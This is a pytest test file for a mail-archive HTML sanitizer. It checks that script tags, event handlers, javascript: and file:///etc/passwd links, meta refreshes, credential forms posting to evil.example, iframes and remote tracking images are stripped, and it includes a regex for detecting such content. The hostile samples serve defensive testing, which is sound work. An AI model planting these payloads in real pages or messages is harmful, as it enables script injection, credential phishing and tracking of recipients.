"""The HTML of mail is hostile: nothing of it may run, fetch, cover or pretend."""

import re

import pytest
from app.archive.reading.dark_html import for_dark
from app.archive.reading.remote_pictures import remote_pictures
from app.archive.reading.safe_html import safe_html, standalone_page
from hypothesis import given
from hypothesis import strategies as st

NASTY = {
    "script": "<script>alert(1)</script>",
    "handler": '<p onclick="x()" onmouseover=y()>text</p>',
    "javascript link": '<a href="javascript:alert(1)">press</a>',
    "file link": '<a href="file:///etc/passwd">press</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/"><a href="x">y</a>',
    "form": '<form action="http://evil.example/"><input name=p type=password></form>',
    "frame": '<iframe src="http://evil.example/"></iframe>',
    "drawing": '<svg onload=alert(1)><image href="http://evil.example/x.png"/></svg>',
    "style url": '<p style="background:url(http://evil.example/x.png)">text</p>',
    "overlay": '<div style="position:fixed;top:0">over all</div>',
    "preconnect": '<link rel=preconnect href="http://evil.example/">',
    "remote picture": '<img src="http://evil.example/x.png">',
    "local picture": '<img src="/tmp/secret.png"><img src="file:///tmp/secret.png">',
    "share picture": r'<img src="//evil.example/share/x.png"><img src="\\evil.example\share\x.png">',
    "data page": '<a href="data:text/html,<script>alert(1)</script>">press</a><img src="data:text/html,x">',
    "sheet": "<style>p{background:url(http://evil.example/x.png)}</style><p>text</p>",
    "unclosed": '<img src="http://evil.example/x.png" <b>text',
}
FORBIDDEN = re.compile(
    r"<\s*(script|meta|base|form|input|iframe|svg|link|object|embed|style)\b|\son\w+\s*=|javascript:|file:|position\s*:"
    r"|url\s*\(|src=\"(?!cid:|data:image/(?:png|jpe?g|gif|webp|bmp);base64,)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", NASTY.values(), ids=NASTY.keys())
def test_nothing_active_or_remote_survives(html):
    assert not FORBIDDEN.search(safe_html(html).html)


@given(st.lists(st.sampled_from([*NASTY.values(), "<", ">", '"', "'", "text", "<p>", "</p>", "<table><tr><td>"])))
def test_no_mixture_of_nasty_pieces_survives(pieces):
    assert not FORBIDDEN.search(safe_html("".join(pieces)).html)


@given(st.text())
def test_any_text_gives_an_answer(text):
    assert isinstance(safe_html(text).html, str)


def test_pictures_from_elsewhere_are_counted_and_own_pictures_stay():
    own = '<img src="cid:logo@x"><img src="data:image/png;base64,AAAA">'
    safe = safe_html(own + '<img src="http://a.example/1"><img src="https://b.example/2">')
    assert safe.blocked_pictures == 2
    assert 'src="cid:logo@x"' in safe.html
    assert "data:image/png;base64,AAAA" in safe.html


def test_links_stay_for_her_to_press():
    assert 'href="https://customer.example/po"' in safe_html('<a href="https://customer.example/po">PO</a>').html


def test_light_text_is_not_left_without_its_painted_ground():
    html = '<td style="color:#fff;background:linear-gradient(red,blue);padding:4px">title</td>'
    assert "color" not in safe_html(f"<table><tr>{html}</tr></table>").html


def test_a_page_for_the_browser_forbids_every_fetch():
    assert "default-src 'none'" in standalone_page("<p>x</p>")


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ('<img src="http://a/1"><img src="http://a/1">', 1),
        ('<img src="x.png" srcset="http://a/1 1x, http://a/2 2x">', 2),
        ('<table background="http://a/1"><tr><td style="background:url(http://a/2)">x</td></tr></table>', 2),
        ('<style>p{background:url("https://a/1")} h1{background:url(//a/2)}</style><p>x</p>', 2),
        ('<video poster="http://a/1"><source src="http://a/2"></video>', 2),
        ("<body background='http://a/1'>x", 1),
        ('<img src="cid:a"><img src="data:image/png;base64,AAAA">', 0),
        ('<a href="http://a/1">x</a><!-- <img src="http://a/1"> -->', 0),
    ],
)
def test_every_way_to_fetch_a_picture_is_counted_once(html, count):
    assert safe_html(html).blocked_pictures == count


def test_a_picture_named_by_its_location_is_shown_from_the_message():
    own = {"logo.gif": "l1", "http://x.cn/a b.png": "l2"}
    safe = safe_html('<img src="logo.gif"><img src="http://x.cn/a%20b.png"><img src="http://x.cn/c.png">', own)
    assert 'src="cid:l1"' in safe.html
    assert 'src="cid:l2"' in safe.html
    assert safe.blocked_pictures == 1


@pytest.mark.parametrize(
    ("html", "dark"),
    [
        ('<p style="color:black;margin:0">x</p>', '<p style="margin:0">x</p>'),
        ('<td bgcolor="#FFFFFF"><font color="#000000">x</font></td>', "<td><font>x</font></td>"),
        ('<p style="color:#1F497D">x</p>', None),
        ('<td bgcolor="#eee">x</td>', None),
        ('<p style="background:red">x</p>', None),
        ("<p>x</p>", "<p>x</p>"),
    ],
)
def test_html_is_shown_dark_only_where_it_sets_no_colours(html, dark):
    assert for_dark(html) == dark


@given(st.lists(st.sampled_from(["<", "<img ", "src=", "'", '"', ">", "http://a/b", "<style>", "url(", ")", " ", "x"])))
def test_counting_never_fails_on_broken_html(pieces):
    assert len(remote_pictures("".join(pieces))) >= 0


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("487EB3", 'color="#487EB3"'),
        ("#fff", 'color="#fff"'),
        ("Red", 'color="Red"'),
        ('3D"x', "<font>"),
        ("url(x)", "<font>"),
    ],
)
def test_colours_are_kept_as_a_viewer_knows_them(given, kept):
    assert kept in safe_html(f"<font color='{given}'>x</font>").html
